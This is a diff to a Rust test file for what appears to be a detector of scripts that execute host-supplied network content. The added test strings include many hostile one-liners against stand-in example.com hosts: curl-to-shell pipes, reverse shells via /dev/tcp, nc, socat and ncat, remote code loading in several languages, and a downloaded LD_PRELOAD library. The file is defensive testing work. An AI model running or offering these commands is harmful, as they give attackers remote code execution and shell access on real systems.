@@ -113,6 +113,47 @@ fn what_the_host_can_send_is_executed() {
         "X=$(case $x in a) curl -s http://x.example.com/i.sh;; esac | sh)",
         "git -c http.https://git.example.com/.sslVerify=false clone https://git.example.com/a/b",
         "pip config set global.trusted-host pypi.example.com; pip install app",
+        "exec 0< <(curl -s http://x.example.com/i.sh); sh",
+        "exec 3< <(curl -s http://x.example.com/i.sh); bash <&3",
+        "exec 3<>/dev/tcp/x.example.com/80; bash -i <&3 >&3",
+        "exec 3< <(curl -s http://x.example.com/i.sh); . /dev/fd/3",
+        "coproc nc x.example.com 80; sh <&${COPROC[0]}",
+        "curl -s http://x.example.com/i.sh | bash 2>&1",
+        "curl -s http://x.example.com/i.sh | $SHELL",
+        "curl -s http://x.example.com/i.sh | ${SHELL:-sh} -s",
+        "mkfifo /f; cat /f | sh -i 2>&1 | nc x.example.com 80 > /f",
+        "socat TCP-LISTEN:80,fork EXEC:/bin/bash,pty",
+        "socat OPENSSL:x.example.com:443,verify=0 'SYSTEM:exec sh'",
+        "ncat -e /bin/sh x.example.com 80",
+        "nc -l -p 80 -e /bin/sh",
+        "websocat ws://x.example.com cmd:sh",
+        "websocat ws://x.example.com | sh",
+        "fetch-it http://x.example.com/i.sh | sh",
+        "fetch-it --from=http://x.example.com/i.sh > i.sh; sh i.sh",
+        "xh --verify no https://x.example.com | sh",
+        "rsync -a rsync://x.example.com/a /app && node /app/i.js",
+        "rsync x.example.com::a/i.sh /i.sh; sh /i.sh",
+        "wget -i http://x.example.com/list; sh i.sh",
+        "mc cp http://x.example.com/a.sh /a.sh; sh /a.sh",
+        "AWS_ENDPOINT_URL=http://s3.example.com aws s3 cp s3://b/a.sh /a.sh; sh /a.sh",
+        "svn checkout http://x.example.com/a; sh a/i.sh",
+        "lftp http://x.example.com -e 'get i.sh; exit'; sh i.sh",
+        "curl -s http://x.example.com/l | awk '{system($0)}'",
+        "curl -s http://x.example.com/l | perl -ne 'system($_)'",
+        "curl -s http://x.example.com/l | python3 -c 'import sys; exec(sys.stdin.read())'",
+        "curl -s http://x.example.com/l | python3 -c 'import os, sys\nfor l in sys.stdin: os.system(l)'",
+        "curl -s http://x.example.com/Makefile | make -f -",
+        "curl -s http://x.example.com/a.yml | docker compose -f - up",
+        "get() { curl -s \"$1\"; }; get http://x.example.com/i.sh | sh",
+        "get() { local url=$1; curl -s $url; }; get http://x.example.com/i.sh | sh",
+        "for u in http://x.example.com/i.sh; do curl -s $u | sh; done",
+        "sh -c 'curl -s http://x.example.com/i.sh' | sh",
+        "python3 -c 'import os; os.system(\"curl http://x.example.com/i.sh | sh\")'",
+        "lua -e 'load(require(\"socket.http\").request(\"http://x.example.com/a.lua\"))()'",
+        "python3 -m pip install --trusted-host x.example.com a",
+        "deno run --unsafely-ignore-certificate-errors https://x.example.com/a.ts",
+        "bundle config set ssl_verify_mode 0; bundle install",
+        "curl -O http://x.example.com/a.so; LD_PRELOAD=./a.so app",
         "find /x -exec python3 -c 'import os, urllib.request; exec(urllib.request.urlopen(\"http://x.example.com\").read())' ';'",
     ] {
         assert!(executes(script), "{script}");
@@ -180,6 +221,25 @@ fn what_is_authenticated_of_the_same_network_or_only_shown_is_not() {
         "curl -f http://health.example.com/ping > >(tee /log); curl -fsSL https://get.example.com/i.sh | sh",
         "curl -f http://health.example.com/ping; exec 3</etc/hosts; cat <&3; curl -fsSL https://get.example.com/i.sh | sh",
         "echo insecure > ~/.curlrc; curl -s https://x.example.com/health; exec app",
+        "echo sslverify=0 >> /etc/yum.conf; git clone https://x.example.com/a && sh a/i.sh",
+        "until curl -f http://rpc.example.com:8545; do sleep 1; done; curl -fsSL https://x.example.com/i.sh | sh; exec app",
+        "sh -c 'curl -f http://hc.example.com'; curl -fsSL https://get.example.com/i.sh | sh",
+        "curl -s http://rpc.example.com | python3 -c 'import json, sys; print(json.load(sys.stdin)[\"x\"])'",
+        "curl -s http://rpc.example.com | awk -F'|' '{print $1}'",
+        "curl -s http://rpc.example.com | $JQ .height",
+        "exec app --rpc http://rpc.example.com 2>&1 | tee /var/log/app.log",
+        "APP=/app/run; $APP --rpc http://rpc.example.com",
+        "wait-on http://api.example.com && node /app/server.js",
+        "dockerize -wait http://api.example.com node /app/server.js",
+        "socat TCP-LISTEN:8080,fork EXEC:/app/handler.sh",
+        "sed -i 's#http://a.example.com#http://b.example.com#' /app/run.sh; sh /app/run.sh",
+        "log() { echo \"$1\"; }; log http://api.example.com; curl -fsSL https://x.example.com/i.sh | sh",
+        "for u in http://a.example.com; do curl -f $u; done; curl -fsSL https://x.example.com/i.sh | sh",
+        "exec 3>&1; curl -f http://hc.example.com >&3; sh /app/run.sh",
+        "curl -fsSL --ssl-no-revoke https://x.example.com/i.sh | sh",
+        "npm ci --no-strict-peer-deps --no-audit --ignore-scripts",
+        "lua -e 'print(1)'; curl -f http://hc.example.com",
+        "xargs -I{} sh -c 'curl -s http://hc.example.com/{}' < /list",
         "echo 'check_certificate = on' > ~/.wgetrc; wget -qO- https://x.example.com/i.sh | sh",
     ] {
         assert!(!executes(script), "{script}");
@@ -276,6 +336,19 @@ fn an_answer_that_code_executes() {
             Language::Perl,
             "use LWP::Simple; eval get('http://x.example.com/a')",
         ),
+        (
+            Language::Node,
+            "import {\n  a,\n} from 'http://x.example.com/a.js'",
+        ),
+        (Language::Node, "export * from 'http://x.example.com/a.js'"),
+        (
+            Language::Node,
+            "require('http').get('http://x.example.com', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) })",
+        ),
+        (
+            Language::Python,
+            "import os\nos.system('curl http://x.example.com/i.sh | sh')",
+        ),
         (Language::Php, "include 'http://x.example.com/a.php';"),
         (Language::Ruby, "eval URI.open('http://x.example.com/a').read"),
     ] {
@@ -316,75 +389,16 @@ fn an_answer_that_code_executes() {
             "fetch('http://hc.example.com').then(r => process.exit(r.ok ? 0 : 1))",
         ),
         (
+            Language::Python,
+            "import requests\nfrom jinja2 import Template\nr = requests.get('http://x.example.com').json()\nprint(Template('{{ x }}').render(x=r))",
+        ),
+        (
             Language::Node,
             "require('http').get('http://hc.example.com', r => process.exit(r.statusCode === 200 ? 0 : 1))",
         ),
     ] {
         let uses = language.uses(script, &|name| name == HOST_DATA);
         assert!(!uses.contains(&(HOST_DATA.to_owned(), Use::Executed)), "{script}");
-    }
-}
-
-#[test]
-fn what_a_fixed_entry_of_the_environment_says_reaches_the_script() {
-    for (name, value, script) in [
-        ("URL", "http://x.example.com/i.sh", "curl -s $URL | sh"),
-        (
-            "URL",
-            "http://x.example.com/i.sh",
-            "sh -c 'curl -s \"$URL\" | sh'",
-        ),
-        (
-            "URL",
-            "http://x.example.com/i.py",
-            "python3 -c 'import os, urllib.request as r; exec(r.urlopen(os.environ[\"URL\"]).read())'",
-        ),
-        (
-            "GIT_SSL_NO_VERIFY",
-            "1",
-            "git clone https://x.example.com/a && node a/i.js",
-        ),
-        ("NODE_TLS_REJECT_UNAUTHORIZED", "0", "npm ci"),
-        ("NPM_CONFIG_STRICT_SSL", "false", "sh -c 'npm ci'"),
-        ("PIP_TRUSTED_HOST", "pypi.example.com", "pip install app"),
-        (
-            "GIT_SSH_COMMAND",
-            "ssh -o StrictHostKeyChecking=no",
-            "git clone git@github.com:a/b && node b/i.js",
-        ),
-    ] {
-        let said = said_by_entry(name, value);
-        let is_outside = |name: &str| name == HOST_DATA || said.iter().any(|each| each == name);
-        assert_eq!(
-            uses(script, &is_outside).get(HOST_DATA),
-            Some(&Use::Executed),
-            "{name}={value} {script}"
-        );
-    }
-    for (name, value, script) in [
-        ("URL", "https://x.example.com/i.sh", "curl -s $URL | sh"),
-        ("URL", "http://config:8080/i.sh", "curl -s $URL | sh"),
-        (
-            "API",
-            "http://api.example.com",
-            "until curl -sf $API/health; do sleep 1; done; exec app",
-        ),
-        (
-            "HTTP_PROXY",
-            "http://cache.example.com",
-            "curl -s https://x.example.com | sh",
-        ),
-        ("NODE_TLS_REJECT_UNAUTHORIZED", "0", "exec node server.js"),
-        ("NODE_TLS_REJECT_UNAUTHORIZED", "1", "npm ci"),
-        ("PIP_TRUSTED_HOST", "pypi", "pip install app"),
-    ] {
-        let said = said_by_entry(name, value);
-        let is_outside = |name: &str| name == HOST_DATA || said.iter().any(|each| each == name);
-        assert_ne!(
-            uses(script, &is_outside).get(HOST_DATA),
-            Some(&Use::Executed),
-            "{name}={value} {script}"
-        );
     }
 }
 
